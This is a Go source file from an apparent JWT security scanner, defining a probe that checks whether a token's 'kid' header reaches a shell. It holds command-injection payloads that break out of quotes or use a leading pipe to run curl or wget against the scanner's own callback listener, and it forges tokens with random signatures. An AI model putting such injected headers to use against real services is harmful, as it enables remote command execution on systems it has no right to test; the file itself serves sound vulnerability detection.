package scan

import (
	"context"
	"fmt"

	"github.com/jotsight/jotsight/internal/catalog"
	"github.com/jotsight/jotsight/internal/finding"
	"github.com/jotsight/jotsight/internal/scan/forge"
)

var _ = add(Probe{
	Name:     "kid-command",
	Weakness: catalog.KIDInjection,
	Title:    "a kid that makes a shell ask the scan's own listener for an empty page",
	Stage:    StageKey,
	Needs:    []Need{NeedJWT, NeedCallback},
	Requests: requests(4),
	Truth:    hostileKID,
	Silent:   catalog.SilentVerifyFailure,
	Alert:    catalog.ForgedAlgorithm,
	Run: func(ctx context.Context, a *attempt) {
		r := a.run
		var offers []*offer
		var variants []variant
		for _, c := range commands {
			o := r.callback.offer("text/plain", nil, found{id: catalog.KIDInjection, confidence: finding.Certain, step: r.recipe.Protected.Step,
				message: "kid reaches a shell, and is run as a command (CWE-78)", evidence: []string{c.name + ": the command was run"}})
			offers = append(offers, o)
			header := r.token.Header.Set("kid", fmt.Sprintf(c.kid, o.url))
			variants = append(variants, variant{c.name, func(canary string) string {
				return forge.Unsigned(header, r.fresh().Set("jti", canary)) + "." + forge.Encode(randomKey())
			}})
		}
		accepted, doubt := a.admits(ctx, variants...)
		for i, o := range offers {
			if i == 0 && o.await(ctx) || o.came() {
				a.result.Accepted = true
				a.fail("%s: the command was run", variants[i].name)
				r.find(o.found)
			}
		}
		if len(accepted) > 0 && !r.anySignature {
			a.fail("a random signature under an odd kid is accepted")
			a.find(catalog.FailOpen, finding.Certain, "a token passes with any signature, if its header is odd enough", a.probe.Name+": "+a.result.Why)
		}
		a.judge(nil, doubt, "a kid that is a command")
	},
})

// commands fetch one page and do nothing else. The first is one text for three
// places: bare, within double quotes and within single ones.
var commands = []struct{ name, kid string }{
	{"a command within any quotes", `x$(curl -sm5 %[1]s||wget -qT5 -O- %[1]s)';(curl -sm5 %[1]s||wget -qT5 -O- %[1]s);'`},
	{"a pipe instead of a file", `|curl -sm5 %[1]s||wget -qT5 -O- %[1]s`}, // Ruby and Perl open it
}
